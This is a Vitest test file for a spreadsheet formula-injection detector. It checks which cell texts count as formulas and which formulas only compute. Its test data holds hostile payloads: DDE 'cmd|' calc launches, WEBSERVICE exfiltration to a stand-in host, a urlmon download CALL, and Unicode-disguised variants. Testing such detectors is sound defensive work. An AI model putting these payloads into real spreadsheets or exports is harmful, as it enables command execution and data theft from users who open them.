import { describe, expect, it } from 'vitest'
import { computesOnly, hasFormulaCells, isFormula } from './read-formula.ts'

describe('a formula', () => {
  it.each([
    '=A1',
    ' =1+1',
    '=cmd|x',
    '+WEBSERVICE("x")',
    '@SUM(A1)',
    "-1+cmd|' /C calc'!A0",
    '+ IMAGE("x")',
    '\uff1dA1',
    '\u2212cmd|x!A1',
    '\u22121\u2212IMAGE("x")',
    '\uff0d1\uff0bIMAGE("x")',
    '\ufe63IMAGE("x")',
    '\u2013IMAGE("x")',
    '\u200b=A1',
  ])('is what a sheet computes: %s', (text) => expect(isFormula(text)).toBe(true))
  it.each([
    '=> next',
    '==== ',
    '= ',
    '-5',
    '+49 (0)151 1234',
    '- see (below)',
    '@ana, look',
    '-great!',
    '\u22125',
    '\u2013 see (below)',
    'a=b',
    '',
  ])('is not a text like %s', (text) => expect(isFormula(text)).toBe(false))

  it.each([
    '=SUM(A1:B$2)',
    '=IF(Total!A1>=0.5, "a ""b"" https://x.example", -A2^2)',
    '=\'Ende Mai\'!C3&" €"',
    '=ROUND(AVERAGEIF(A:A;">3";B:B);2)',
    '=-A1*10%',
    '=SUM({1;2},TRUE)',
  ])('only computes as %s', (text) => expect(computesOnly(text)).toBe(true))
  it.each([
    '=WEBSERVICE("https://x.example/?s="&C2)',
    '=webservice(A1)',
    '=HYPERLINK("https://x.example","a")',
    '=IMAGE("https://x.example/a.png")',
    '=IMPORTXML("https://x.example","//a")',
    '=SUM(A1,IMPORTDATA(B1))',
    '=SUM(A1,\nIMPORTDATA(B1))',
    '=_xlfn.WEBSERVICE(A1)',
    "=cmd|' /C calc'!A0",
    '=DDE("x","y","z")',
    '=[book.xlsx]Sheet1!A1',
    "='\\\\host\\share\\[b.xlsx]S'!A1",
    "='https://x.example/[b.xlsx]S'!A1",
    '=IF(A1,RTD("x",,"y"))',
    '=SUM (WEBSERVICE(A1))',
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://x.example","a",0,0)',
    '=INDIRECT(A1)',
    '=SomeName',
    '=SUM("a',
  ])('may do more as %s', (text) => expect(computesOnly(text)).toBe(false))
})

it('a formula is read to its end in any length', () => {
  for (const part of ['1+', '""', "'a'!A1,", 'SUM(', 'a.', '$a ', ' '])
    expect([part, computesOnly(`=${part.repeat(9_999)}#`), isFormula(`-${part.repeat(9_999)}#`)]).toEqual([
      part,
      false,
      part === 'SUM(',
    ])
})

describe('a table in a text', () => {
  it.each([
    'a,=1+1',
    'a\n=A1,b',
    'a;"=HYPERLINK(""x"")"',
    'a\t@SUM(A1)',
    '\uFEFF=A1',
    "a,'=A1",
    'a,  "  =A1"',
    'a\r=A1',
    'a|=A1',
    "a,-2+3+cmd|' /C calc'!A0",
  ])('has a cell with a formula: %j', (text) => expect(hasFormulaCells(text)).toBe(true))
  it.each(['a,b\n1,-5', 'phone,+49 (0)151', 'a == b', 'x,@ana', 'k,a=b'])('has none: %j', (text) =>
    expect(hasFormulaCells(text)).toBe(false),
  )
})
